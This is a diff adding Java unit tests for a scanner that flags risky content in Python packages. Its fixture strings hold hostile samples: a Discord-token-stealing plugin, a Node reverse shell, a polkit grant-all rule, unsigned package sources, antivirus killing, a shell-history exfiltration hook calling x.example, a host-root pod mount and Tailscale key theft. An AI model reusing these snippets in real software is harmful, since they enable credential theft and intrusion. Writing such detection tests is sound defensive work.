@@ -3190,6 +3190,108 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/state.py", smartScreenRead))).isEmpty();
   }
 
+  @Test
+  void pluginsWrittenIntoOtherApplicationsAndDiscordTokenScriptsAreFlagged() {
+    String gnome =
+        "import os\nfolder = os.path.expanduser('~/.local/share/gnome-shell/extensions/x@y')\n"
+            + "with open(os.path.join(folder, 'extension.js'), 'w', encoding='utf-8') as fh:\n"
+            + "    fh.write(EXTENSION)\n";
+    String betterDiscord =
+        "PLUGIN = '''module.exports = class P {\n  start() {\n"
+            + "    const a = BdApi.Webpack.getModule(m => m && m.getToken);\n"
+            + "    fetch(U, {method: 'POST', body: a.getToken()});\n  }\n};\n'''\n";
+    String gnomeListed =
+        "import os\nfolder = os.path.expanduser('~/.local/share/gnome-shell/extensions')\n"
+            + "installed = sorted(os.listdir(folder))\n";
+    String otherToken = "SNIPPET = 'const t = session.getToken(); render(t);'\n";
+
+    assertThat(levelIn(gnome, "plants-app-plugin")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(betterDiscord, "discord-token-script")).isEqualTo(RiskLevel.HIGH);
+    // the extensions only listed, a token read in a script that has nothing to do with Discord
+    assertThat(check(wheelWith("pkg/listed.py", gnomeListed))).isEmpty();
+    assertThat(check(wheelWith("pkg/snippet.py", otherToken))).isEmpty();
+  }
+
+  @Test
+  void polkitGrantsUnsignedSourcesAndTunnelsToSshAreFlagged() {
+    String polkit =
+        "RULE = 'polkit.addRule(function(a, s) { return polkit.Result.YES; });'\n"
+            + "with open('/etc/polkit-1/rules.d/49-x.rules', 'w', encoding='utf-8') as fh:\n"
+            + "    fh.write(RULE)\n";
+    String apt =
+        "import subprocess\nwith open('/etc/apt/sources.list.d/x.list', 'w') as fh:\n"
+            + "    fh.write('deb [trusted=yes] https://apt.example/ stable main')\n"
+            + "subprocess.run(['apt-get', 'update'])\n";
+    String frp =
+        "import subprocess\nCONFIG = 'serverAddr = \"100.64.0.4\"\\nlocalPort = 22\\n'\n"
+            + "subprocess.Popen([os.path.join(folder, 'frpc'), '-c', config])\n";
+    String yum =
+        "with open('/etc/yum.repos.d/x.repo', 'w') as fh:\n"
+            + "    fh.write('[x]\\nbaseurl=https://yum.example/\\ngpgcheck=0\\n')\n";
+    String signedApt =
+        apt.replace("deb [trusted=yes]", "deb [signed-by=/usr/share/keyrings/x.gpg]");
+    String webTunnel = frp.replace("localPort = 22", "localPort = 8080");
+    String polkitQuery = "import subprocess\nsubprocess.run(['pkcheck', '--action-id', ACTION])\n";
+
+    assertThat(levelIn(polkit, "grants-polkit-actions")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(apt, "unsigned-package-source-added")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(yum, "unsigned-package-source-added")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(frp, "tunnels-remote-access")).isEqualTo(RiskLevel.HIGH);
+    // a source with its key, a tunnel to a web server (the client alone: MEDIUM), a polkit check
+    assertThat(check(wheelWith("pkg/apt.py", signedApt))).isEmpty();
+    assertThat(worst(check(wheelWith("pkg/web.py", webTunnel)))).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(check(wheelWith("pkg/check.py", polkitQuery))).isEmpty();
+  }
+
+  @Test
+  void nodeShellsKilledAntivirusCommandLoggersAndHostDisksInPodsAreFlagged() {
+    String node =
+        "import subprocess\nJS = (\"const net=require('net'),cp=require('child_process');\"\n"
+            + "  \"const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();\"\n"
+            + "  \"c.connect(4444,H,()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});\")\n"
+            + "subprocess.Popen(['node', '-e', JS])\n";
+    String killer =
+        "import subprocess\nfor name in ('MsMpEng.exe', 'NisSrv.exe'):\n"
+            + "    subprocess.run(['taskkill', '/F', '/IM', name])\n";
+    String logger =
+        "LINE = \"export PROMPT_COMMAND='history 1 | curl -s --data-binary @- https://x.example'\"\n";
+    String pod =
+        "import json, subprocess\nPOD = {'spec': {'containers': [{'volumeMounts': [{'name': 'r', "
+            + "'mountPath': '/host'}]}], 'volumes': [{'name': 'r', 'hostPath': {'path': '/'}}]}}\n"
+            + "subprocess.run(['kubectl', 'apply', '-f', '-'], input=json.dumps(POD), text=True)\n";
+    String nodeClient =
+        "JS = \"const net=require('net');const c=new net.Socket();c.connect(6379,'127.0.0.1');\"\n";
+    String ownKill = "import subprocess\nsubprocess.run(['taskkill', '/F', '/IM', 'myapp.exe'])\n";
+    String pexpect = "PROMPT = u\"PS1='{0}' PS2='{1}' PROMPT_COMMAND=''\"\n";
+    String dataVolume = pod.replace("{'path': '/'}", "{'path': '/var/lib/data'}");
+
+    assertThat(levelIn(node, "socket-shell-script")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(killer, "kills-security-software")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(logger, "prompt-hook-sends")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(pod, "container-escapes-to-host")).isEqualTo(RiskLevel.HIGH);
+    // a Node client with no shell, the package's own program stopped, pexpect's prompt reset, a
+    // data folder mounted
+    assertThat(check(wheelWith("pkg/client.py", nodeClient))).isEmpty();
+    assertThat(check(wheelWith("pkg/stop.py", ownKill))).isEmpty();
+    assertThat(check(wheelWith("pkg/repl.py", pexpect))).isEmpty();
+    assertThat(check(wheelWith("pkg/pod.py", dataVolume))).isEmpty();
+  }
+
+  @Test
+  void meshNetworkNodeKeysSentAreFlagged() {
+    String tailscale =
+        "import socket\nwith open('/var/lib/tailscale/tailscaled.state', 'rb') as fh:\n"
+            + "    state = fh.read()\n"
+            + "with socket.create_connection(('100.64.40.12', 443)) as conn:\n"
+            + "    conn.sendall(state)\n";
+    String present =
+        "import os\nCONNECTED = os.path.exists('/var/lib/tailscale/tailscaled.state')\n";
+
+    assertThat(worst(check(wheelWith("pkg/mesh.py", tailscale)))).isEqualTo(RiskLevel.HIGH);
+    // whether Tailscale is set up, asked and not read
+    assertThat(check(wheelWith("pkg/present.py", present))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
